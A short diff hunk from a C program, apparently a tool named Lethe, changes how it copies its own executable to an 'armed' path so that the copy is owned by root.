@@ -46,7 +46,7 @@ static int copy_program(void)
 {
     if (lethe_command_same_content(LETHE_ARMED_PROGRAM, "/proc/self/exe"))
         return 0;
-    return lethe_copy_self(LETHE_ARMED_PROGRAM);
+    return lethe_own_root_copy_program(LETHE_ARMED_PROGRAM);
 }
 
 static int name_copy(void)
